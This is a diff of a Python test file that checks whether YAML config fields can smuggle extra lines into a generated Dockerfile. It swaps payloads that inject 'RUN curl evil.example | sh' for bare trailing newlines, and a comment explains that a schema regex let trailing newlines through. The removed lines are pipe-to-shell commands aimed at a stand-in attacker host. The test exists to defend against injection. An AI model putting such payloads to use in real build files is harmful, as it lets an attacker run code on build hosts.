@@ -625,11 +625,12 @@ def _overlay(tmp_path: Path, name: str, text: str) -> Path:
 
 
 SRC = "source: https://example.org/fact\n"
+# the five fields the sweep found reaching the Dockerfile and envbuilder.def raw: a value that
+# ends in a newline passed the schema (Python's `$` matches before a final newline)
 OVERLAY_INJECTIONS = {
-    # the five fields the sweep found reaching the Dockerfile and envbuilder.def raw
-    "os apt package": ("os.yaml", lambda m: _os_entry(m, packages_suffix="\nRUN curl evil.example | sh")),
-    "ppa repository": ("os.yaml", lambda m: _os_entry(m, repo_suffix="\nRUN curl evil.example | sh")),
-    "torch index": ("torch.yaml", lambda m: "index: \"https://evil.example/{variant}\\nRUN curl evil.example\"\n"),
+    "os apt package": ("os.yaml", lambda m: _os_entry(m, packages_suffix="\n")),
+    "ppa repository": ("os.yaml", lambda m: _os_entry(m, repo_suffix="\n")),
+    "torch index": ("torch.yaml", lambda m: "index: \"https://download.pytorch.org/whl/{variant}\\n\"\n"),
     "flavour env": ("toolchains.yaml", lambda m: _flavour_entry(m)),
     "host compiler": ("toolchains.yaml", lambda m: _host_compiler_entry(m)),
 }
@@ -661,7 +662,7 @@ def _os_entry(m, packages_suffix: str = "", repo_suffix: str = "") -> str:
 def _flavour_entry(m) -> str:
     doc = _yaml_doc("toolchains.yaml")
     f = doc["flavours"][0]
-    f["env"] = {**f.get("env", {}), "EVIL": "x\nRUN curl evil.example | sh"}
+    f["env"] = {**f.get("env", {}), "EVIL": "x\n"}
     return _dump({"flavours": [f]})
 
 
@@ -669,7 +670,7 @@ def _host_compiler_entry(m) -> str:
     doc = _yaml_doc("toolchains.yaml")
     h = doc["host_compilers"][0]
     k = next(iter(h["packages"]))
-    h["packages"][k] = [h["packages"][k][0] + "\nRUN curl evil.example | sh"]
+    h["packages"][k] = [h["packages"][k][0] + "\n"]
     return _dump({"host_compilers": [h]})
 
 
